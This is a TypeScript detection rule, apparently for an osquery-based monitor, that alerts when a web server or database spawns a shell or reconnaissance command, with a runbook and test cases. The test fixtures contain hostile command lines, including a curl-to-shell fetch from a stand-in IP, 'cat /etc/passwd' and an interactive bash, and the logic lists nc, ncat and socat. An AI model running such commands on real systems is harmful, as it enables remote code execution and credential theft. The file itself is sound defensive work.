import { type Command, commandsOf, isProgram } from '../../src/detect/reading/command.ts'
import { isInterpreter, isShell } from '../../src/detect/reading/interpreters.ts'
import { baseName } from '../../src/detect/reading/paths.ts'
import {
  asTyped,
  isProgramStart,
  PROGRAM_START_TABLES,
  shortened,
  toldProgram,
} from '../../src/detect/reading/program-start.ts'
import { runsDecodedCode, runsFetchedCode } from '../../src/detect/reading/remote-code.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'
import { SERVER_PROGRAMS } from '../data/server-programs.ts'

export default rule({
  id: 'posix.server-starts-shell',
  title: 'Web server or database asks who it is',
  severity: 'high',
  on: joining(table(...PROGRAM_START_TABLES, 'processes'), 'parent_path', 'parent_name'),
  attack: ['T1190', 'T1505.003', 'T1059.004'],
  dedup: ({ hostId, columns }) => `${hostId} ${parentOf(columns)}`,
  detect: ({ columns }) => {
    if (!isProgramStart(columns) || !isServer(parentOf(columns))) return false
    const line = asTyped(columns.cmdline)
    const commands = commandsOf(line)
    return (
      commands.some(isQuestion) ||
      (!isJava(parentOf(columns)) && isBareShell(commands)) ||
      runsFetchedCode(line) ||
      runsDecodedCode(line)
    )
  },
  alertTitle: ({ host, columns }) => `${parentOf(columns)} on ${host} ran ${shortened(columns.cmdline)}`,
  context: ({ columns }) => toldProgram(columns),
  means:
    'A program that serves strangers started a shell or a tool by which somebody looks around. A request made it do so: a web shell, an injected command, a hole in a library.',
  check:
    'SELECT p.pid, p.path, p.cmdline, p.cwd, p.uid, p.start_time, pp.path AS parent_path, pp.cmdline AS parent_cmdline FROM processes p JOIN processes pp ON pp.pid = p.parent WHERE p.uid <> 0;',
  benign:
    'Pages for administrators that show the state of the host, plugins and build servers (Jenkins) that call tools.',
  runbook:
    'Isolate the host, or take the server from the network. Find the request in its access log at that time. Look for new files below the web root and in /tmp, for other processes of its user, and for connections that go out. Close the hole before it comes back.',
  references: [
    'https://attack.mitre.org/techniques/T1190/',
    'https://attack.mitre.org/techniques/T1505/003/',
  ],
  tests: [
    {
      name: 'who am I',
      match: true,
      table: 'process_events',
      columns: {
        path: '/usr/bin/dash',
        cmdline: 'sh -c whoami',
        pid: '7',
        parent: '900',
        uid: '33',
        cwd: '/var/www/html',
        parent_path: '/usr/sbin/apache2',
      },
      title: '/usr/sbin/apache2 on test-host ran sh -c whoami',
      dedup: 'test-host-id /usr/sbin/apache2',
      severity: 'high',
      context: {
        program: '/usr/bin/dash',
        command: 'sh -c whoami',
        pid: '7',
        parent: '900',
        parent_program: '/usr/sbin/apache2',
        folder: '/var/www/html',
        uid: '33',
        euid: '',
        login: '',
        time: '',
      },
    },
    {
      name: 'the list of accounts',
      match: true,
      table: 'process_events',
      columns: {
        path: '/usr/bin/dash',
        cmdline: 'sh -c cat /etc/passwd',
        parent_path: '/usr/sbin/php-fpm8.2',
      },
    },
    {
      name: 'a shell that waits',
      match: true,
      table: 'bpf_process_events',
      columns: {
        path: '/usr/bin/bash',
        cmdline: 'bash -i',
        parent_path: '/usr/lib/postgresql/16/bin/postgres',
      },
    },
    {
      name: 'by the name of the parent',
      match: true,
      table: 'processes',
      columns: { path: '/usr/bin/dash', cmdline: '/bin/sh', parent_name: 'redis-server' },
    },
    {
      name: 'code from afar, on a Mac',
      match: true,
      table: 'es_process_events',
      columns: {
        event_type: 'exec',
        cmdline: 'sh -c curl http://198.51.100.7/a | sh',
        parent_path: '/opt/homebrew/bin/nginx',
      },
    },
    {
      name: 'sends a mail',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'sh -c /usr/sbin/sendmail -t -i', parent_path: '/usr/sbin/php-fpm8.2' },
    },
    {
      name: 'puts a log away',
      match: false,
      table: 'process_events',
      columns: {
        cmdline: 'sh -c test ! -f /srv/wal/0001 && cp pg_wal/0001 /srv/wal/0001',
        parent_path: '/usr/lib/postgresql/16/bin/postgres',
      },
    },
    {
      name: 'a script behind a page',
      match: false,
      table: 'process_events',
      columns: { cmdline: '/bin/bash /usr/lib/cgi-bin/status.cgi', parent_path: '/usr/sbin/apache2' },
    },
    {
      name: 'pictures',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'sh -c convert a.png -resize 50% b.png', parent_path: '/usr/sbin/apache2' },
    },
    {
      name: 'a terminal in an editor',
      match: false,
      table: 'process_events',
      columns: {
        path: '/usr/bin/bash',
        cmdline: '/bin/bash -i',
        parent_path: '/home/ada/idea/jbr/bin/java',
      },
    },
    {
      name: 'a person asks',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'whoami', parent_path: '/usr/bin/bash' },
    },
    {
      name: 'the parent is not known',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'sh -c whoami' },
    },
    {
      name: 'the process ends',
      match: false,
      table: 'es_process_events',
      columns: { event_type: 'exit', cmdline: 'sh -c id', parent_path: '/usr/sbin/httpd' },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      table: 'processes',
      columns: { cmdline: 'sh -c id', parent_path: '/usr/sbin/httpd' },
    },
  ],
})

function parentOf({
  parent_path,
  parent_name,
}: {
  readonly parent_path?: string
  readonly parent_name?: string
}): string {
  return parent_path || parent_name || ''
}

/** Editors for developers are Java too, and open terminals. */
function isJava(parent: string): boolean {
  return baseName(parent) === 'java'
}

/** By its name without a version: `php-fpm8.2`, `apache2`. */
function isServer(parent: string): boolean {
  return SERVER_PROGRAMS.names.has(baseName(parent).replace(/[\d.-]{1,10}$/, ''))
}

function isQuestion(command: Command): boolean {
  if (isProgram(command, 'uname')) return command.args.some(arg => arg === '-a' || arg === '--all')
  if (isProgram(command, 'cat', 'head', 'tail', 'less', 'more'))
    return command.args.some(arg => arg === '/etc/passwd' || arg === '/etc/shadow')
  return SERVER_PROGRAMS.questions.has(command.program) || isProgram(command, 'nc', 'ncat', 'socat')
}

/** A shell, or an interpreter with a prompt, that is given nothing to do. */
function isBareShell(commands: readonly Command[]): boolean {
  const [only, ...more] = commands
  if (only === undefined || more.length > 0 || !(isShell(only.program) || isInterpreter(only.program)))
    return false
  const tells = only.program !== 'java' && only.program !== 'node' && only.program !== 'php'
  return (
    tells && only.args.every(arg => /^-{1,2}[a-z]{0,12}$/.test(arg) && arg !== '--version' && arg !== '-c')
  )
}
